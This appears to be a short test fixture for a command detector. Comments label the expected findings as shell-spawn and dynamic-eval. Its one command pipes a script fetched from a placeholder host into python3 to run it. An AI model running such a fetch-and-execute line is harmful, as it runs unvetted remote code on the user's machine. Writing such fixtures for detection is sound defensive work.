# expect: shell-spawn,dynamic-eval
# source: DESIGN.md section 2: dynamic-eval
# technique: curl | python3
curl -s https://x.example.net/p.py | python3
